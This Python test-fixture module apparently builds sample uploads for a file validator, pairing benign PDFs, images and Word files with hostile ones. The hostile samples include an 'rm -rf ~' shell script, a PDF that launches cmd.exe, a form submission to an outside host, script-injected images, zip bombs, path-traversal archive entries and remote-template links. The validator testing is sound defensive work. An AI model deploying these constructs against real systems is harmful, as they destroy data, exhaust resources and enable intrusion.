"""Small files of every kind that is attached, and of kinds that pretend or do harm."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF\n"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
"""What every virus scanner takes for a virus, and nobody else does."""


def pdf(more: bytes) -> bytes:
    """A PDF with one more object in it."""
    return PDF.replace(b"trailer", b"2 0 obj << %s >> endobj\ntrailer" % more)


def pdf_packed(objects: bytes, about: bytes = b"/Filter /FlateDecode", packed: bytes | None = None) -> bytes:
    """A PDF whose objects lie compressed in a list."""
    inside = zlib.compress(objects) if packed is None else packed
    stream = b"2 0 obj << /Type /ObjStm /N 1 /First 4 %s >> stream\n%s\nendstream endobj\ntrailer" % (
        about,
        inside,
    )
    return PDF.replace(b"trailer", stream)


def png(width: int = 1, height: int = 1, more: bytes = b"") -> bytes:
    """A PNG that says it is so large."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\0\0")
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + more + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")
    )


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def words(text: bytes) -> bytes:
    """A part of a PNG that holds words."""
    return _chunk(b"tEXt", b"Comment\0" + text)


def jpeg(width: int = 1, height: int = 1, more: bytes = b"") -> bytes:
    """A JPEG that says it is so large; ``more`` stands in its comment."""
    comment = b"\xff\xfe" + struct.pack(">H", 2 + len(more)) + more if more else b""
    frame = b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", height, width) + b"\x01\x01\x11\x00"
    scan = b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\x7f\xa0"
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
        + comment
        + frame
        + scan
        + b"\xff\xd9"
    )


PNG = png()
JPEG = jpeg()


def docx(main: str = MAIN, links: str = "", more: dict[str, bytes] | None = None) -> bytes:
    """A Word document with that main content type; ``more`` are further parts by name."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as package:
        override = f'<Override PartName="/word/document.xml" ContentType="{main}"/>'
        package.writestr("[Content_Types].xml", f"<Types>{override}</Types>")
        package.writestr("word/document.xml", "<w:document/>")
        package.writestr("word/_rels/settings.xml.rels", f"<Relationships>{links}</Relationships>")
        for name, content in (more or {}).items():
            package.writestr(name, content)
    return packed.getvalue()


def relation(kind: str, more: str = 'Target="t" TargetMode="External"') -> str:
    """A link of a Word document's part to something."""
    start = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return f'<Relationship Id="r1" Type="{start}/{kind}" {more}/>'


def cross_lying() -> bytes:
    """A zip in which many entries of the list are one and the same part, so that it unpacks to many times its size."""
    whole = docx(more={"a.xml": b"0" * 3_000_000})
    start, entry = whole.index(b"PK\x01\x02"), whole.rindex(b"PK\x01\x02")
    end = whole.index(b"PK\x05\x06")
    one = whole[entry:end]
    entries = whole[start:entry] + b"".join(
        one.replace(b"a.xml", b"%c.xml" % letter) for letter in range(97, 117)
    )
    count = entries.count(b"PK\x01\x02")
    return (
        whole[:start]
        + entries
        + b"PK\x05\x06\0\0\0\0"
        + struct.pack("<HHIIH", count, count, len(entries), start, 0)
    )


TAKEN = {
    "a PDF with its objects packed": pdf_packed(b"1 0 << /Type /Page >>"),
    "a PDF with a list of objects not packed": pdf_packed(b"", b"", b"1 0 << /Type /Page >>"),
    "a PDF with links": pdf(b"/S /URI /URI (https://council.example/)"),
    "a PDF with notes behind its end": PDF + b"\n\n\0\0",
    "a large scan": png(9_900, 7_000),
    "a photograph": jpeg(8_000, 6_000),
    "a photograph with words": jpeg(more=b"taken at the visit"),
    "a Word document with a link": docx(links=relation("hyperlink")),
    "a Word document with a picture": docx(more={"word/media/image1.png": PNG}),
    "a Word document whose link speaks of control": docx(
        links=relation("hyperlink", 'Target="https://council.example/control?external" TargetMode="External"')
    ),
}
PRETENDERS = {
    "nothing": b"",
    "text": b"Just words, called letter.pdf",
    "a web page": b"<!DOCTYPE html><script>alert(1)</script>",
    "a drawing with script": b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>",
    "a program": b"MZ\x90\x00" + b"\x00" * 60,
    "a program of Linux": b"\x7fELF\x02\x01\x01" + b"\x00" * 60,
    "a shell script": b"#!/bin/sh\nrm -rf ~\n",
    "a test virus": EICAR,
    "an old Word document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
    "words in UTF-16": "Just words".encode("utf-16"),
    "a GIF": b"GIF89a\x01\x00\x01\x00\x80\x00\x00",
    # PDF
    "a PDF that begins later": b"<html>" + PDF,
    "half a PDF": PDF[:-30],
    "a PDF without an end": PDF.replace(b"%%EOF", b""),
    "a PDF that is a web page": PDF.replace(b"1 0 obj", b"<html><script>alert(1)</script>\n1 0 obj"),
    "a PDF with a web page behind it": PDF + b"<script>alert(1)</script>",
    "a PDF that is a zip": PDF + docx(),
    "a PDF within a zip": docx(more={"a.pdf": PDF}),
    "a PDF with a script": pdf(b"/S /JavaScript /JS (app.alert(1))"),
    "a PDF with a script spelt oddly": pdf(b"/S /J#61vaScrip#74 /JS (app.alert(1))"),
    "a PDF with a script packed": pdf_packed(b"1 0 << /S /JavaScript /JS (app.alert(1)) >>"),
    "a PDF with a script packed and its list spelt oddly": pdf_packed(b"1 0 << /S /JavaScript >>").replace(
        b"/ObjStm", b"/Obj#53tm"
    ),
    "a PDF with a script packed twice": pdf_packed(
        b"",
        b"/Filter [/ASCIIHexDecode /FlateDecode]",
        zlib.compress(b"1 0 << /S /JavaScript >>").hex().encode(),
    ),
    "a PDF with a script foretold": pdf_packed(
        b"1 0 << /S /JavaScript >>", b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>"
    ),
    "a PDF with a false beginning": pdf_packed(
        b"1 0 << /S /JavaScript >>", b"/X (stream\n1 0 ) /Filter /FlateDecode"
    ),
    "a PDF that starts a program": pdf(b"/S /Launch /F (cmd.exe)"),
    "a PDF that sends what is typed": pdf(b"/S /SubmitForm /F (https://elsewhere.example)"),
    "a PDF with a file inside": pdf(b"/Names << /EmbeddedFiles 9 0 R >>"),
    "a PDF with a film": pdf(b"/Subtype /RichMedia"),
    "a PDF filled in by a program": pdf(b"/AcroForm << /XFA [(a) 3 0 R] >>"),
    "a PDF with a password": pdf(b"/Encrypt 3 0 R"),
    "a PDF that unpacks without end": pdf_packed(b"1 0 " + b" " * 40_000_000),
    "a PDF of lists without end": PDF.replace(b"trailer", b"/ObjStm stream\n" * 20_000 + b"trailer"),
    "a PDF whose list never comes": PDF.replace(b"trailer", b"/ObjStm" + b" " * 9_000 + b"stream\ntrailer"),
    # pictures
    "half a PNG's signature": PNG[:6],
    "half a PNG": PNG[:-8],
    "a PNG that was changed": PNG.replace(b"IDAT", b"IDAX"),
    "a PNG with a page behind it": PNG + b"<script>alert(1)</script>",
    "a PNG that is a zip": PNG + docx(),
    "a PNG with something behind it": PNG + b"more",
    "a PNG of 30,000 pixels": png(30_000, 30_000),
    "a PNG as long as a street": png(30_000, 1),
    "a PNG of too many pixels": png(19_000, 19_000),
    "a PNG of none": png(0, 0),
    "a PNG in crumbs": png(more=_chunk(b"tEXt", b"") * 30_000),
    "half a JPEG": JPEG[:-2],
    "a JPEG's head": JPEG[:20],
    "a JPEG of 30,000 pixels": jpeg(30_000, 30_000),
    "a JPEG that is a web page": jpeg(more=b"<html><script>alert(1)</script>"),
    "a JPEG that is a zip": JPEG + docx(),
    # Word
    "a plain zip": docx(main="text/plain"),
    "a zip that is cut": docx()[:80],
    "a Word document that was changed": docx().replace(b"PK\x01\x02", b"PK\x01\x03", 1),
    "something behind a Word document": docx() + b"more",
    "macros by type": docx(MACRO_MAIN),
    "macros by part": docx(more={"word/vbaProject.bin": b"x"}),
    "a control": docx(more={"word/activeX/activeX1.xml": b"x"}),
    "a program inside": docx(links='<Relationship Type=".../oleObject" Target="embeddings/o.bin"/>'),
    "a program for Windows inside": docx(more={"word/media/a.png": b"MZ\x90\x00"}),
    "a zip inside": docx(more={"word/embeddings/a.bin": docx()}),
    "a zip bomb inside a zip": docx(more={"a.zip": docx(more={"b.xml": b"0" * 30_000_000})}),
    "a template from elsewhere": docx(links=relation("attachedTemplate")),
    "a template from elsewhere, spelt oddly": docx(links=relation("attachedTempl&#97;te")),
    "a template after a sharp bracket": docx(links=relation("attachedTemplate").replace('"r1"', '"r>1"')),
    "a picture from elsewhere": docx(links=relation("image")),
    "links in another alphabet": docx(more={"a.rels": relation("image").encode("utf-16")}),
    "links with entities": docx(more={"a.rels": b"<!DOCTYPE a [<!ENTITY x 'External'>]>"}),
    "a part that unpacks without end": docx(more={"_rels/bomb.rels": b"0" * 2_000_000}),
    "a zip bomb": docx(more={"word/media/a.xml": b"0" * 70_000_000}),
    "a zip bomb in slices": docx(more={f"word/{letter}.xml": b"0" * 7_000_000 for letter in "abcdefghij"}),
    "a zip bomb of one part many times": cross_lying(),
    "parts without end": docx(more={f"word/{number}.xml": b"" for number in range(1_200)}),
    "a part that climbs": docx(more={"../../evil.xml": b"x"}),
    "a part from the root": docx(more={"/etc/cron.d/evil": b"x"}),
    "a part named twice": docx(more={"WORD/document.xml": b"x"}),
}
